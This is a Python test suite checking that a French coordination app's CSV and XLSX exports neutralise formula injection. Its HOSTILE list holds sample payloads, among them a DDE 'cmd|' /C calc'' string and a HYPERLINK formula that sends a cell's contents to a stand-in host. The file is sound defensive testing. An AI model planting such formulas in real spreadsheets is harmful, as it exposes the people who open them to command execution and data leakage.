"""Every CSV and XLSX the product writes holds no cell a spreadsheet would evaluate (OWASP CSV injection),
read back with the standard `csv` module and openpyxl, from records that arrived hostile."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from coordinateur.documents.tableur import DECLENCHEURS, NOMBRE, neutralise
from coordinateur.store import Store

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def evaluated(cell: str) -> bool:
    """What Excel or LibreOffice would take as a formula when opening the CSV."""
    return cell.startswith(DECLENCHEURS) and not NOMBRE.fullmatch(cell)


@given(st.text(max_size=40))
def test_a_neutralised_cell_is_never_evaluated_and_keeps_its_text(text: str) -> None:
    cell = neutralise(text)
    assert not evaluated(cell)
    assert cell == text or cell == "'" + text


def test_numbers_and_phone_numbers_stay_readable() -> None:
    assert neutralise("-3") == "-3" and neutralise("+1") == "+1" and neutralise("12,5") == "12,5"
    assert neutralise("+33 6 12 34 56 78") == "'+33 6 12 34 56 78"
    assert neutralise("05 65 44 12 12") == "05 65 44 12 12" and neutralise(42) == 42


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def assert_inert(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert cells and not [c for c in cells if evaluated(c)]


def test_directory_journal_and_actions_csv_hold_no_formula(
    store: Store, annuaire: dict, tmp_path: Path
) -> None:
    from coordinateur.annuaire.exports import Selection, export_csv
    from coordinateur.annuaire.fiches import FicheStructure
    from coordinateur.annuaire.service import enregistre
    from coordinateur.confiance.journal import Filtre, exporte_csv
    from coordinateur.reunions.exports import liste_actions_csv
    from coordinateur.reunions.service import DonneesAction, DonneesReunion, actions, enregistre_reunion

    for name in HOSTILE:
        enregistre(store, FicheStructure(nom=name, type_code="SAAD", commune_code="12119"))
    export_csv(store, Selection(), tmp_path / "annuaire.csv")
    rows = rows_of(tmp_path / "annuaire.csv")
    assert_inert(rows)
    names = {row[2] for row in rows}
    assert "'" + HOSTILE[0] in names and "'+33 6 12 34 56 78" in names  # shown as typed, run never

    enregistre_reunion(store, DonneesReunion(titre="=1+1", date=date.today().isoformat(), actions=[
        DonneesAction(quoi=text, responsable=text, echeance=(date.today() + timedelta(days=3)).isoformat())
        for text in HOSTILE]))  # fmt: skip
    liste_actions_csv(store, actions(store), tmp_path / "actions.csv", confirme=True)
    assert_inert(rows_of(tmp_path / "actions.csv"))
    exporte_csv(store, Filtre(), tmp_path / "journal.csv")
    assert_inert(rows_of(tmp_path / "journal.csv"))


def test_bilan_csv_and_xlsx_hold_no_formula(store: Store, annuaire: dict) -> None:
    from openpyxl import load_workbook

    from coordinateur.indicateurs.bilan import bilan, en_csv, en_xlsx, enregistre_note
    from coordinateur.indicateurs.periodes import periode, territoire
    from coordinateur.settings import load_settings

    when, where = periode(str(date.today().year)), territoire(load_settings(store))
    enregistre_note(store, when, where, HOSTILE[0])
    b = bilan(store, when, where)
    assert_inert(list(csv.reader(io.StringIO(en_csv(b).decode("utf-8-sig")), delimiter=";")))
    sheet = load_workbook(io.BytesIO(en_xlsx(b))).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert HOSTILE[0] in [c.value for c in cells]  # the comment is there, as text


def test_every_spreadsheet_writer_goes_through_the_neutralising_helpers() -> None:
    """A new CSV or XLSX export written with csv.writer or sheet.append directly would skip the rule."""
    root = Path(__file__).parents[2]
    offenders = []
    for source in [*(root / "coordinateur").rglob("*.py"), *(root / "ui").rglob("*.py")]:
        if source.name == "tableur.py":
            continue
        text = source.read_text(encoding="utf-8")
        for pattern in ("csv.writer(", "csv.DictWriter(", "sheet.append("):
            for line in text.splitlines():
                if pattern in line and not ("sheet.append([])" in line or 'sheet.append(["' in line):
                    offenders.append(f"{source.relative_to(root)}: {line.strip()}")
    assert offenders == []
